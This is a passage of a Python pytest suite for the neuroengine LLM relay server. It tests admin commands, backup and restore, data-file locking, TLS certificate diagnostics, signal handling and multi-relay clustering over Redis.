    assert re.search(r"^Quiet +0 prompts +0 keys +never connected +"
                     r"private, paused, by Ann\?\[2J$", text, re.M)
    assert re.search(r"^Plain .* last seen \S+ \S+ UTC$", text, re.M)


def test_delete_takes_patterns_and_asks_first(data_file, admin):
    path = data_file(**{"test-1": None, "test-2": 1, "Keep": 1})
    status, text = admin("delete", "TEST-*")       # standard input is no terminal
    assert status == 1 and "add --yes" in text and "test-1" in text and "Keep" not in text
    assert len(names_in(path)) == 3
    assert admin("delete", "TEST-*", "--yes")[0] == 0
    assert names_in(path) == {"Keep"}
    assert admin("delete", "x*", "--yes") == (1, "No service matches: nothing was deleted.\n")
    assert admin("delete", "Keep", "nosuch", "--yes")[0] == 1 and names_in(path) == {"Keep"}


@pytest.mark.parametrize("answer, left", [("yes", {"b"}), ("y", {"a", "b"}),
                                          (EOFError, {"a", "b"})])
def test_delete_believes_only_a_yes(data_file, admin, monkeypatch, answer, left):
    def answered(question):
        if answer is EOFError:
            raise EOFError
        return answer
    path = data_file(a=1, b=1)
    monkeypatch.setattr("builtins.input", answered)
    monkeypatch.setattr(sys, "stdin", type("Terminal", (), {"isatty": lambda _: True})())
    assert admin("delete", "[a]")[0] == (left != {"b"}) and names_in(path) == left


def test_delete_unused_since_spares_what_was_seen_later(data_file, admin):
    path = data_file(Old=100, Older=200, Fresh=1, Never=None)
    assert admin("delete", "--unused-since", "90", "o*", "--yes")[0] == 0
    assert names_in(path) == {"Fresh", "Never"}
    assert admin("delete", "--unused-since", "90", "--yes")[0] == 0     # by its creation
    assert names_in(path) == {"Fresh"}


def test_delete_unused_since_spares_a_connected_provider(data_file, admin):
    path = data_file(Busy=100)
    with contextlib.closing(sqlite3.connect(str(path))) as db, db:
        db.execute("UPDATE services SET connected=1")
    with neuroengine_server.DataLock(str(path)):
        assert admin("delete", "--unused-since", "9", "--yes")[0] == 1
    assert admin("delete", "--unused-since", "9", "--yes")[0] == 0 and not names_in(path)


def test_a_second_relay_on_one_data_file_is_refused_until_the_first_has_ended(
        start, tmp_path):
    first, relay = start_relay(start, tmp_path)
    second = start("neuroengine_server.py", "--port", 0, "--data",
                   tmp_path / "data.sqlite3")
    assert second.process.wait(SOON) == 1
    second.says(r"^A relay \(process %d\) uses the data file .*: stop it, or name another "
                r"file with --data\.$" % first.process.pid)
    first.end(getattr(signal, "SIGKILL", signal.SIGTERM))     # the lock dies with it
    third, relay = start_relay(start, tmp_path)
    assert ask(relay, "/healthz")[0] == 200 and third.end() == 0


def test_a_data_file_is_one_by_whatever_path_it_is_named(tmp_path):
    (tmp_path / "sub").mkdir()
    first = neuroengine_server.DataLock(str(tmp_path / "data"))
    again = neuroengine_server.DataLock(str(tmp_path / "sub" / ".." / "data"))
    again.WAIT_SECONDS = 0.1
    assert first.holder() is None and not list(tmp_path.glob("*.lock"))
    with first:
        assert again.holder() == os.getpid()
        with pytest.raises(neuroengine_server.StoreError):
            again.__enter__()
    with again:
        assert first.holder() == os.getpid()
    with neuroengine_server.DataLock(":memory:"), neuroengine_server.DataLock(":memory:"):
        pass


@pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="needs symbolic links")
def test_the_lock_follows_no_symbolic_link(tmp_path):
    (tmp_path / "precious").write_text("x" * 9)
    (tmp_path / "data.lock").symlink_to(tmp_path / "precious")
    with pytest.raises(neuroengine_server.StoreError):
        neuroengine_server.DataLock(str(tmp_path / "data")).__enter__()
    assert (tmp_path / "precious").read_text() == "x" * 9


def test_the_lock_of_windows_is_tried_without_waiting(tmp_path, monkeypatch):
    calls = []

    class Msvcrt:
        LK_NBLCK = 2

        @staticmethod
        def locking(file, mode, length):
            calls.append((os.lseek(file, 0, os.SEEK_CUR), mode, length))
            if len(calls) == 2:
                raise PermissionError(13, "locked")
    monkeypatch.setitem(sys.modules, "fcntl", None)
    monkeypatch.setitem(sys.modules, "msvcrt", Msvcrt)
    lock = neuroengine_server.DataLock(str(tmp_path / "data"))
    with lock:
        assert lock.holder() == os.getpid()
    assert calls == [(1 << 20, 2, 1)] * 2


def test_restore_puts_a_backup_in_place_and_keeps_the_old_data(data_file, admin, tmp_path):
    path, copy = data_file(Old=1), tmp_path / "copy"
    assert "restore %s" % copy in admin("backup", str(copy))[1]
    admin("delete", "Old")
    data_file(New=1)
    before = copy.read_bytes()
    status, text = admin("restore", str(copy))
    assert status == 0 and "revoked" in text and names_in(path) == {"Old"}
    kept = text.split("The old data is in ")[1].strip()[:-1]
    assert names_in(kept) == {"New"} and copy.read_bytes() == before
    assert path.stat().st_mode & 0o777 == (0o600 if os.name != "nt" else 0o666)
    assert not list(tmp_path.glob("*restoring*"))


def test_a_restore_that_is_cut_short_leaves_the_old_data_file(
        data_file, admin, tmp_path, monkeypatch):
    path, copy, replace = data_file(Old=1), tmp_path / "copy", os.replace
    admin("backup", str(copy))
    data_file(New=1)

    def killed(old, new):
        if old.endswith(".restoring"):
            raise KeyboardInterrupt()
        replace(old, new)
    monkeypatch.setattr(os, "replace", killed)
    with pytest.raises(KeyboardInterrupt):
        neuroengine_server.run_restore(neuroengine_server.parse(
            ["restore", str(copy), "--data", str(path)]))
    assert path.exists() and names_in(path) == {"Old", "New"}


def test_a_log_that_a_killed_restore_left_does_not_get_into_the_next(data_file, admin, tmp_path):
    path = data_file(Old=1)
    admin("backup", str(tmp_path / "copy"))
    with contextlib.closing(Store(str(path))) as store:
        store.add(Service("Late", "digest"))       # so far in the log only
        for suffix in ("", "-wal"):
            shutil.copy(str(path) + suffix, str(path) + ".restoring" + suffix)
    assert admin("restore", str(tmp_path / "copy"))[0] == 0
    assert names_in(path) == {"Old"}


def test_each_restore_keeps_the_data_before_it(data_file, admin, tmp_path, monkeypatch):
    monkeypatch.setattr(time, "strftime", lambda *a: ".before")    # in one second
    path = data_file(Old=1)
    admin("backup", str(tmp_path / "copy"))
    data_file(New=1)
    for _ in range(3):
        assert admin("restore", str(tmp_path / "copy"))[0] == 0
    kept = [names_in(file) for file in list(tmp_path.glob(path.name + ".before*"))]
    assert len(kept) == 3 and {"Old", "New"} in kept


def test_restore_also_makes_a_data_file_where_there_is_none(data_file, admin, tmp_path):
    path = data_file(Old=1)
    admin("backup", str(tmp_path / "copy"))
    path.unlink()
    assert admin("restore", str(tmp_path / "copy"))[0] == 0 and names_in(path) == {"Old"}


def test_restore_takes_a_plain_copy_with_its_log(data_file, admin, tmp_path):
    path = data_file(Old=1)
    with contextlib.closing(Store(str(path))) as store:
        store.add(Service("Late", "digest"))       # so far in the log only
        for suffix in ("", "-wal"):
            shutil.copy(str(path) + suffix, str(tmp_path / "copy") + suffix)
    admin("delete", "*", "--yes")
    assert admin("restore", str(tmp_path / "copy"))[0] == 0
    assert names_in(path) == {"Old", "Late"} and not list(tmp_path.glob("*restoring*"))


def test_restore_refuses_what_is_not_a_backup_and_leaves_the_data(data_file, admin, tmp_path):
    path = data_file(Mine=1)
    (tmp_path / "text").write_bytes(b"this is no database, not at all" * 100)
    with contextlib.closing(sqlite3.connect(str(tmp_path / "other"))) as db, db:
        db.execute("CREATE TABLE songs (name TEXT)")
    for name, words in (("text", "text is damaged"), ("other", "not a neuroengine data"),
                        ("nosuch", "No such file"), ("data.sqlite3", "is the data file")):
        status, text = admin("restore", str(tmp_path / name))
        assert status == 1 and words in text and "restoring" not in text, text
        assert names_in(path) == {"Mine"} and not list(tmp_path.glob("*.restoring*"))


def test_restore_refuses_while_a_relay_runs(data_file, admin, monkeypatch):
    path = data_file(Mine=1)
    monkeypatch.setattr(neuroengine_server.DataLock, "WAIT_SECONDS", 0.1)
    with neuroengine_server.DataLock(str(path)):
        status, text = admin("restore", "copy")
    assert status == 1 and "uses the data file" in text and "stop it" in text


def test_commands_leave_an_older_file_as_it_is(tmp_path, capsys):
    path, copy = str(tmp_path / "data.sqlite3"), str(tmp_path / "copy")
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.executescript(VERSION_1)
    assert neuroengine_server.main(["list", "--data", path]) == 1
    assert "older" in capsys.readouterr().err
    assert neuroengine_server.main(["backup", copy, "--data", path]) == 0
    for file in (path, copy):
        assert Store(file, existing=True).version == 1


def openssl(directory, *args):
    subprocess.run(("openssl",) + args, cwd=str(directory), check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@pytest.fixture(scope="session")
def certificates(tmp_path_factory):
    """A directory of certificates: good, soon (to expire) and expired, with their keys."""
    path = tmp_path_factory.mktemp("certificates")
    for name, days in (("good", "100"), ("soon", "10")):
        openssl(path, "req", "-x509", "-newkey", "ec", "-pkeyopt",
                "ec_paramgen_curve:prime256v1", "-nodes", "-days", days, "-subj", "/CN=x",
                "-addext", "subjectAltName=DNS:relay.example.org", "-keyout",
                name + ".key", "-out", name + ".pem")
    (path / "conf").write_text("[ca]\ndefault_ca=a\n[a]\ndatabase=db\nrand_serial=yes\n"
                               "default_md=sha256\npolicy=p\nnew_certs_dir=.\n[p]\n"
                               "commonName=supplied\n")
    (path / "db").write_text("")
    openssl(path, "req", "-new", "-key", "good.key", "-subj", "/CN=x", "-out", "request")
    openssl(path, "ca", "-config", "conf", "-selfsign", "-batch", "-notext", "-keyfile",
            "good.key", "-in", "request", "-out", "expired.pem", "-startdate",
            "20200101000000Z", "-enddate", "20210101000000Z")
    return path


@pytest.fixture
def doctor(tmp_path, capsys):
    """Run the doctor: its exit status, and the words of each line that is not ok."""
    def doctor(*args):
        args = ["--host", "127.0.0.1", "--port", "0", "--data", str(tmp_path / "data.sqlite3"),
                *map(str, args)]
        status = neuroengine_server.main(["doctor"] + args)
        lines = capsys.readouterr().out.splitlines()
        assert len(lines) == 8 and all(
            re.match(r"(ok|warning|error) +[A-Z].*\.$", line) for line in lines), lines
        return status, "\n".join(line for line in lines if not line.startswith("ok"))
    return doctor


def test_the_doctor_says_what_is_wrong(tmp_path, doctor, monkeypatch, certificates):
    def pair(cert, key):
        return ["--cert", certificates / cert, "--key", certificates / key]
    assert doctor() == (0, "")
    assert doctor(*pair("good.pem", "good.key")) == (0, "")
    for args, status, words in (
            (pair("soon.pem", "soon.key"), 0, "warning .*relay.example.org.*renew it"),
            (pair("expired.pem", "good.key"), 1, "error .*certificate has expired"),
            (pair("good.pem", "soon.key"), 1, "error .*belongs to another cert"),
            (pair("good.pem", "nosuch"), 1, "error .*nosuch cannot be read .No such file"),
            (["--key", "x"], 1, "error .*--cert and --key together"),
            (["--port", 8443], 0, "warning .*is self-signed.*localhost.*--webroot"),
            (["--host", ""], 0, "warning .*plain HTTP on all addr.* register .*--host 127"),
            (["--host", "10.9.9.9", "--registration", "closed"], 1,
             r"plain HTTP on 10.9.9.9: all who reach it can use it, and"),
            (["--max-connections", 10**8], 0, "warning .*LimitNOFILE"),
            (["--data", "/nosuch/x"], 1, "error .*folder /nosuch,")):
        found = doctor(*args)
        assert found[0] == status and re.search(words, found[1]), found
    assert not list(tmp_path.iterdir())          # it looks, and makes nothing
    for name, value, status, words in (
            ("Relay", lambda *_: (_ for _ in ()).throw(PermissionError(13, "no")), 1,
             "CAP_NET_BIND_SERVICE"),
            ("read_page", lambda: None, 0, "no chat.html"),
            ("EARLIEST_TIME", 10**11, 1, "set it"),
            ("MIN_FREE_MIB", 10**12, 0, "MB left")):
        with monkeypatch.context() as patch:
            patch.setattr(neuroengine_server, name, value)
            found = doctor()
            assert found[0] == status and words in found[1], found
    (tmp_path / "data.sqlite3").write_bytes(b"this is no database, not at all" * 100)
    status, words = doctor()
    assert status == 1 and "damaged" in words


def test_the_doctor_tells_our_relay_from_other_programs_on_the_port(
        tmp_path, doctor, relay, start, data_file):
    ours = ["--host", "127.0.0.1", "--port", relay.server_address[1]]
    found = doctor(*ours)                        # but it has another data file
    assert found[0] == 0 and "not with the data file" in found[1]
    with neuroengine_server.DataLock(str(data_file(Mine=1))):
        assert doctor(*ours) == (0, "")
        found = doctor()
        assert found[0] == 1 and "a second relay on it would be refused" in found[1]
    with serving(type("Other", (FakeLLM,), {"got": [], "script": []})) as url:
        found = doctor("--host", "127.0.0.1", "--port", url.rsplit(":", 1)[1])
    assert found[0] == 1 and re.search("error .*BaseHTTP.* uses it", found[1]), found


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_the_self_made_certificate_is_for_the_names_that_clients_may_use(
        tmp_path, doctor, monkeypatch):
    monkeypatch.setattr(socket, "gethostname", lambda: "box")
    files = neuroengine_server.self_signed(
        str(tmp_path), names=["relay.example.org", "10.9.9.9", "::2", "no name, at all"])
    names = {name for _, name in neuroengine_server.certificate_of(*files)["subjectAltName"]}
    assert names > {"box", "localhost", "127.0.0.1", "relay.example.org", "10.9.9.9"}
    assert "no name, at all" not in names
    assert ", 10.9.9.9, ::2, localhost, " in doctor("--port", 8443)[1]     # what is in the file
    os.remove(files[0])
    os.mkdir(files[0])                                     # and what the start would say of it
    status, words = doctor("--port", 8443)
    assert status == 1 and "cannot be read" in words


def test_windows_says_that_a_port_is_taken_by_refusing_access(monkeypatch):
    refused = PermissionError(13, "forbidden by its access permissions")
    assert not neuroengine_server.port_is_taken(refused)
    with monkeypatch.context() as patch:         # only while it is looked at: pathlib...
        patch.setattr(os, "name", "nt")
        taken = neuroengine_server.port_is_taken(refused)
    assert taken


def test_without_the_resource_module_the_doctor_has_nothing_to_say_of_files(
        monkeypatch, doctor):
    monkeypatch.setitem(sys.modules, "resource", None)
    assert doctor("--max-connections", 10**8) == (0, "")
    neuroengine_server.raise_descriptor_limit()


# Signals, streams and terminals.


def test_a_relay_warns_at_its_start_in_single_lines(start, tmp_path, certificates):
    program, _ = start_relay(start, tmp_path, "--cert", certificates / "soon.pem", "--key",
                             certificates / "soon.key", "--max-connections", 10**8)
    assert program.says(r"(?m)^warning: The certificate .* renew it.*\.$")
    assert program.says(r"(?m)^warning: Only \d+ files may be open.*\.$")
    assert program.end() == 0


@pytest.mark.skipif(not hasattr(signal, "SIGUSR1"), reason="needs a Unix")
def test_a_console_that_windows_closes_ends_a_program_as_a_signal_does(monkeypatch):
    monkeypatch.setattr(signal, "SIGBREAK", signal.SIGUSR1, raising=False)
    stops = []
    with neuroengine.signals_call(lambda: stops.append("stop")):
        signal.getsignal(signal.SIGBREAK)(signal.SIGBREAK, None)
    with pytest.raises(SystemExit), neuroengine.signals_that_end():
        signal.getsignal(signal.SIGBREAK)(signal.SIGBREAK, None)
    assert stops == ["stop"] and signal.getsignal(signal.SIGBREAK) == signal.SIG_DFL


@pytest.mark.skipif(not hasattr(signal, "SIGHUP"), reason="needs a Unix")
def test_sighup_reloads_and_logs_what_was_read_again(start, tmp_path, admin):
    shutil.copy(neuroengine_server.__file__, str(tmp_path))
    shutil.copy(os.path.join(HERE, "chat.html"), str(tmp_path))
    program = start(tmp_path / "neuroengine_server.py", "--log", "json", "--port", 0,
                    "--host", "127.0.0.1", "--data", tmp_path / "data.sqlite3")
    program.says('"event": "started"')
    program.process.send_signal(signal.SIGHUP)
    program.says('"event": "reloaded", "read": \\[\\]')
    (tmp_path / "chat.html").write_text("<script>1</script>")
    program.process.send_signal(signal.SIGHUP)
    program.says('"event": "reloaded", "read": \\["page"\\]')
    assert program.end() == 0
    lines = [json.loads(line) for line in program.output.splitlines() if line[0] == "{"]
    assert [line["event"] for line in lines] == [
        "started", "reloaded", "reloaded", "stopping", "stopped"]


def test_a_wait_for_signals_that_looks_up_misses_none(start):
    """As on Windows, where Ctrl-C does not interrupt a receive."""
    program = start("-c", """
import neuroengine_server, sys
neuroengine_server.Signals.__init__.__defaults__ = (0.001,)
sys.exit(neuroengine_server.main(["--demo", "--port", "0"]))""")
    assert ask(Address(program), "/healthz")[0] == 200
    assert program.end(signal.SIGINT) == 0 and "Traceback" not in program.output


@pytest.mark.skipif(os.name == "nt", reason="needs a POSIX shell")
def test_a_relay_runs_without_standard_output_and_error(tmp_path):
    address = "127.0.0.1", free_port()
    process = subprocess.Popen(
        ["sh", "-c", 'exec "$@" >&- 2>&-', "sh", sys.executable, "-m", "neuroengine_server",
         "--demo", "--port", str(address[1])], cwd=HERE)
    try:
        def healthy():
            with contextlib.suppress(OSError), contextlib.closing(
                    http.client.HTTPConnection(*address, timeout=1)) as connection:
                connection.request("GET", "/healthz")
                return connection.getresponse().status == 200
        until(healthy)
    finally:
        process.terminate()
    assert process.wait(SOON) == 0


@pytest.mark.skipif(os.name == "nt", reason="needs a POSIX shell")
def test_a_reader_that_left_early_and_a_poor_terminal_cause_no_traceback(data_file, tmp_path):
    path = data_file(**{"S%d" % n: None for n in range(9)})
    for line in ('"$@" list | true', '"$@" --help | true', '"$@" list >/dev/full',
                 'PYTHONIOENCODING=ascii "$@" delete "\u00e9"'):
        result = subprocess.run(
            ["sh", "-c", line, "sh", sys.executable, "-m", "neuroengine_server", "--data",
             str(path)], cwd=HERE, stderr=subprocess.PIPE, timeout=SOON)
        assert b"Traceback" not in result.stderr and b"Exception" not in result.stderr, line


def test_a_new_certificate_is_told_from_one_that_cannot_be_used(tmp_path, certificates):
    cert, key = str(tmp_path / "cert"), str(tmp_path / "key")
    shutil.copy(str(certificates / "good.pem"), cert)
    shutil.copy(str(certificates / "good.key"), key)
    certificate = neuroengine_server.Certificate(cert, key)
    first = certificate.context
    assert not certificate.renew() and certificate.context is first
    shutil.copy(str(certificates / "soon.pem"), cert)          # half of the pair
    assert not certificate.renew() and certificate.context is first
    shutil.copy(str(certificates / "soon.key"), key)
    assert certificate.renew() and certificate.context is not first


def test_what_is_wrong_with_a_certificate_is_told(tmp_path, certificates, capsys):
    openssl(certificates, "pkey", "-in", "good.key", "-aes128", "-passout", "pass:x", "-out",
            "secret.key")
    openssl(certificates, "x509", "-in", "good.pem", "-outform", "der", "-out", "good.der")
    for cert, key, words in (
            ("good.key", "good.pem", "they are swapped: --cert names the key"),
            ("good.der", "good.key", "good.der is in DER format"),
            ("conf", "good.key", "conf holds no certificate in PEM"),
            ("good.pem", "conf", "conf holds no private key in PEM"),
            ("good.pem", "good.pem", "that file holds no key: name its file with --key"),
            ("good.pem", "secret.key", "the key has a pass phrase")):
        assert neuroengine_server.main([
            "--port", "0", "--data", str(tmp_path / "data.sqlite3"),
            "--cert", str(certificates / cert), "--key", str(certificates / key)]) == 1
        assert words in capsys.readouterr().err


def test_what_is_no_data_file_gets_no_file_beside_it(tmp_path, capsys):
    (tmp_path / "README.md").write_text("hello")
    for data, words in ((tmp_path / "README.md", "is not a data file of neuroengine"),
                        (tmp_path, "is a folder: name a file in it")):
        assert neuroengine_server.main(["--port", "0", "--data", str(data)]) == 1
        assert words in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["README.md"]


@pytest.mark.parametrize("version", [0, 4])
@pytest.mark.parametrize("words", [["--port", "0"], ["list"], ["doctor"], ["backup", "copy"]])
def test_the_database_of_another_program_is_left_as_it_is(tmp_path, capsys, words, version):
    path = tmp_path / "songs.sqlite3"
    with contextlib.closing(sqlite3.connect(str(path))) as db:
        db.execute("CREATE TABLE songs (name TEXT)")
        db.execute("PRAGMA user_version=%d" % version)
    before = path.read_bytes()
    assert neuroengine_server.main([*words, "--data", str(path)]) == 1
    assert "another program's" in "".join(capsys.readouterr()) and path.read_bytes() == before


def test_a_host_that_is_not_here_is_told_apart_from_a_port_that_is_taken(tmp_path, capsys):
    for host in ("192.0.2.1", "nosuch.invalid"):
        assert neuroengine_server.main(["--port", "0", "--data", str(tmp_path / "data.sqlite3"),
                                        "--host", host]) == 1
        words = capsys.readouterr().err
        assert "%s: it is no address of this machine. Leave --host out" % host in words


def test_a_missing_openssl_is_one_sentence(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(neuroengine_server.StoreError) as error:
        neuroengine_server.self_signed(str(tmp_path))
    assert "--tls off" in str(error.value)


AS_SYSTEMD_DOES = """
import os, sys
os.dup2(int(sys.argv[1]), 3)
os.environ.update(LISTEN_FDS="1", LISTEN_PID=str(os.getpid()))
os.execv(sys.executable, [sys.executable] + sys.argv[2:])
"""


@pytest.mark.skipif(sys.platform == "win32", reason="systemd is for Linux")
def test_a_socket_that_systemd_holds_refuses_no_connection_in_a_restart(start, tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        address = listener.getsockname()
        waiting = socket.create_connection(address)     # before there is any relay
        for _ in range(2):
            process = subprocess.Popen(
                [sys.executable, "-c", AS_SYSTEMD_DOES, str(listener.fileno()),
                 "-m", "neuroengine_server", "--data", str(tmp_path / "d.sqlite3")],
                cwd=HERE, pass_fds=[listener.fileno()], stdout=subprocess.PIPE,
                stderr=subprocess.DEVNULL)
            waiting.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
            waiting.settimeout(SOON)
            assert waiting.recv(100).startswith(b"HTTP/1.1 200")
            waiting.close()
            process.terminate()
            assert process.wait(SOON) == 0
            process.stdout.close()
            waiting = socket.create_connection(address)
        waiting.close()


@pytest.mark.skipif(os.name == "nt", reason="needs POSIX signals")
def test_after_kill_9_and_a_restart_everything_goes_on_by_itself(start, tmp_path):
    port = free_port()
    program, relay = start_relay(start, tmp_path, port=port)
    hand = Hand(relay)
    hand.logout()
    provider = start("-c", PROVIDER, relay.url, hand.name, hand.key)
    provider.says("login 0")
    api = Neuroengine(hand.name, relay.url)
    assert api.request("3") == numbers(3)
    with contextlib.closing(Store(str(tmp_path / "data.sqlite3"), existing=True)) as store:
        until(lambda: store.load()[0].numreq, 2)           # the promise: within a second
    answer = in_thread(api.request, "100", tries=10)
    until(lambda: api.getModels()[0]["running"])
    program.end(signal.SIGKILL)
    program, relay = start_relay(start, tmp_path, port=port)
    assert answer() == numbers(100)
    model, = api.getModels()
    assert model["name"] == hand.name and model["connected"] and model["numreq"] >= 2
    assert program.end() == 0
    provider.end(signal.SIGINT)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="it reads /proc")
def test_a_short_fault_run_loses_and_doubles_nothing():
    faults = bench_module("checks", "faults.py")
    wrong, table = faults.short_run(seed=1)
    assert not wrong, "\n".join(wrong + [table])


def test_importing_does_nothing_and_needs_nothing_but_the_standard_library():
    for module in ("neuroengine", "neuroengine_server"):
        code = ("import sys; sys.dont_write_bytecode = True; import %s; "
                "print([m for m in sys.modules if m.split('.')[0] in "
                "('requests', 'pytest', 'numpy')])" % module)
        output = subprocess.run([sys.executable, "-S", "-W", "error", "-c", code],
                                cwd=HERE, stdout=subprocess.PIPE, check=True).stdout
        assert output.strip() == b"[]"


def test_neither_file_imports_the_other_and_each_works_alone(tmp_path):
    for name in ("neuroengine", "neuroengine_server"):
        shutil.copy(os.path.join(HERE, name + ".py"), str(tmp_path))
        other = ({"neuroengine", "neuroengine_server"} - {name}).pop()
        text = (tmp_path / (name + ".py")).read_text()
        assert not re.search(r"^\s*(import|from) %s\b" % other, text, re.M)
        subprocess.run([sys.executable, name + ".py", "--help"], cwd=str(tmp_path),
                       check=True, stdout=subprocess.DEVNULL)
        os.remove(str(tmp_path / (name + ".py")))


@pytest.mark.parametrize("example, args", [
    ("streaming-example.py", ["Eliza"]), ("server-example.py", ["MYGPT"])])
def test_the_examples_run_as_they_are(start, tmp_path, example, args):
    if not os.path.exists(os.path.join(HERE, example)):
        pytest.skip("not here")
    relay = Address(start("neuroengine_server.py", "--demo", "--port", 0))
    if example.startswith("server"):
        args.append(ask(relay, "/api/services", {"name": "MYGPT"})[1]["key"])
    program = start(example, *args, NEUROENGINE_SERVER=relay.url)
    if example.startswith("server"):
        program.says("Logged in!")
        assert "LLM" in Neuroengine("MYGPT", relay.url).request("hi")
        assert program.end(signal.SIGINT) in (0, -signal.SIGINT)
    else:
        assert program.ended() == 0 and "Roses are red" in program.output


##############################################################################
# Several relays on one engine
##############################################################################

ENGINE_PROGRAM = os.environ.get("NEUROENGINE_ENGINE_PROGRAM", "redis-server")


class EngineServer:
    """A Redis or Valkey server on a socket in a folder."""

    def __init__(self, folder):
        self.folder, self.process = str(folder), None
        self.url = "unix://%s/s" % self.folder

    def start(self):
        self.process = subprocess.Popen(
            [ENGINE_PROGRAM, "--port", "0", "--unixsocket", self.folder + "/s", "--dir",
             self.folder, "--appendonly", "yes", "--save", "", "--logfile", "log"],
            stdout=subprocess.DEVNULL)
        until(self.answers)

    def answers(self):
        with contextlib.suppress(neuroengine_server.EngineError):
            return neuroengine_server.Engine(self.url).call("PING") == "PONG"

    def call(self, *words):
        return neuroengine_server.Engine(self.url).call(*words)

    def kill(self):
        self.process.kill()
        self.process.wait()


def need_program(name):
    """Skip a test unless several relays are to be tested; then the program must be there."""
    if os.environ.get("NEUROENGINE_CLUSTER_TESTS") != "1":
        pytest.skip("tests of several relays need redis-server, haproxy (see .ci/run) and "
                    "NEUROENGINE_CLUSTER_TESTS=1")
    if not shutil.which(name):
        pytest.fail("%s is not installed: see .ci/run" % name)


@pytest.fixture
def engine():
    need_program(ENGINE_PROGRAM)
    with tempfile.TemporaryDirectory() as folder:      # tmp_path may be too long for a socket
        engine = EngineServer(folder)
        engine.start()
        yield engine
        engine.kill()


CLUSTER_SECRET = "the-secret-of-all-relays"


@pytest.fixture
def cluster(engine):
    """Start relays on the engine: cluster(3)."""
    relays = []

    def cluster(count=1, **limits):
        for _ in range(count):
            relay = neuroengine_server.ClusterRelay(
                "127.0.0.1", 0, engine=neuroengine_server.Engine(engine.url),
                secret=CLUSTER_SECRET, page=b"<p>", limits=Limits(**limits))
            relay.start()
            relays.append(relay)
        until(lambda: all(len(relay.registry.relays) == len(relays) for relay in relays))
        return relays if count > 1 else relays[-1]
    yield cluster
    for relay in relays:
        relay.stop()


class FarHand(Hand):
    """A provider that enters at another relay than that of its service's home."""

    def __init__(self, home, entry, **kw):
        super().__init__(home, **kw)
        self.logout()
        self.relay = entry
        self.connection = http.client.HTTPConnection(*entry.server_address[:2], timeout=30)
        self.session, self.running = self.call("login", **kw)["session"], []

    def answer(self, count):
        """Answer the next `count` prompts."""
        jobs = []
        while len(jobs) < count:
            jobs += self.poll()["jobs"]
        for job in jobs:
            self.reply(job, ["yes"], done=True)


def test_cluster_without_an_engine_runs_no_line_of_it(relay, hand):
    lines = inspect.getsource(neuroengine_server).splitlines()
    first = lines.index("# Cluster: several relays on one engine (Valkey or Redis)")
    last = lines.index("# Demo: a provider inside the relay, after Joseph Weizenbaum's "
                       "Eliza (1966)")
    ran = set()

    def note(frame, event, _):
        if frame.f_code.co_filename == neuroengine_server.__file__:
            ran.add(frame.f_code.co_firstlineno)
    threading.setprofile(note)
    try:
        with running_relay() as own:       # all of its threads are new
            provider = Hand(own)
            answer = in_thread(ask, own, "/" + provider.name, {"message": "hi"})
            provider.reply(provider.next_job(), ["Hello"], done=True)
            assert answer()[0] == 200
            for path in ("/metrics", "/healthz", "/api/models", "/v1/models"):
                assert ask(own, path)[0] == 200
            provider.logout()
    finally:
        threading.setprofile(None)
    assert len(ran) > 100 and not [line for line in ran if first < line < last]
    assert type(own) is Relay


def test_cluster_every_relay_answers_for_every_service(cluster):
    relays = cluster(3)
    hand = FarHand(relays[0], relays[1])
    for relay in relays:
        answer = in_thread(ask, relay, "/" + hand.name, {"message": "hi"})
        hand.reply(hand.next_job(), ["Hel", "lo"], done=True)
        assert answer()[1]["reply"] == "Hello"
        answer = in_thread(chat, relay, hand.name)
        hand.reply(hand.next_job(), ["Hel", "lo"], done=True)
        assert answer()[1]["choices"][0]["message"]["content"] == "Hello"
    assert [len(relay.broker.services()) for relay in relays] == [1, 0, 0]


def test_cluster_streams_cancels_and_resumes_through_any_relay(cluster):
    relays = cluster(3)
    hand = FarHand(relays[0], relays[1])
    key, path = uuid.uuid4().hex, "/" + hand.name
    sock = sent(relays[1], path, {"message": "hi", "key": key, "stream": True, "at": 0})
    job = hand.next_job()
    hand.reply(job, ["a", "b"])
    records = records_of(sock)
    assert next(record for record in records if "items" in record) == {
        "at": 0, "items": ["a", "b"]}
    sock.close()                           # and goes on through another
    hand.reply(job, ["c"], at=2)
    answer = ask(relays[2], path, {"key": key, "at": 1, "gettokens": 2})
    assert (answer[1]["reply"], answer[1]["at"]) == ("bc", 3)
    assert ask(relays[1], path, {"command": "cancel", "key": key})[0] == 200
    until(lambda: [job["job"], 1] in hand.poll()["cancel"])


def test_cluster_a_client_that_hangs_up_at_one_relay_is_noticed_at_the_home(cluster):
    relays = cluster(2, grace_seconds=0)
    hand = FarHand(*relays)
    for stream in (True, False):
        sock = sent(relays[1], "/" + hand.name, {"message": "hi", "stream": stream})
        job = hand.next_job()
        began = time.monotonic()
        sock.close()
        until(lambda job=job: [job["job"], 1] in hand.poll()["cancel"])
        assert time.monotonic() - began < patient(2)
        hand.running.remove([job["job"], 1])


def test_cluster_a_provider_that_vanishes_at_one_relay_loses_its_jobs_at_the_home(cluster):
    relays = cluster(2, close_seconds=0.1)
    hand = FarHand(*relays)
    service = relays[0].broker.find(hand.name)
    for _ in range(2):
        assert service.sessions
        answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
        hand.next_job()
        hand.reply({"job": "none", "attempt": 0}, [])          # the same connection
        time.sleep(0.3)                    # three times close_seconds: it is there still
        assert service.sessions
        hand.connection.close()            # between two polls
        until(lambda: not service.sessions)
        hand.session, hand.running = hand.call("login")["session"], []
        job = hand.next_job()
        hand.reply(job, ["again"], done=True)
        assert answer()[1]["reply"] == "again"


def test_cluster_a_poll_keeps_no_memory_for_its_body_while_it_waits(cluster):
    relay = cluster()
    hand = FarHand(relay, relay)
    sock = sent(relay, "/provider/%s/poll" % hand.name, {
        "session": hand.session, "padding": "x" * 10**5}, Authorization="Bearer " + hand.key)
    until(lambda: relay.bounds.polls.taken)
    assert [exchange.body for exchange in relay.active] == [None]
    sock.close()


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/"])
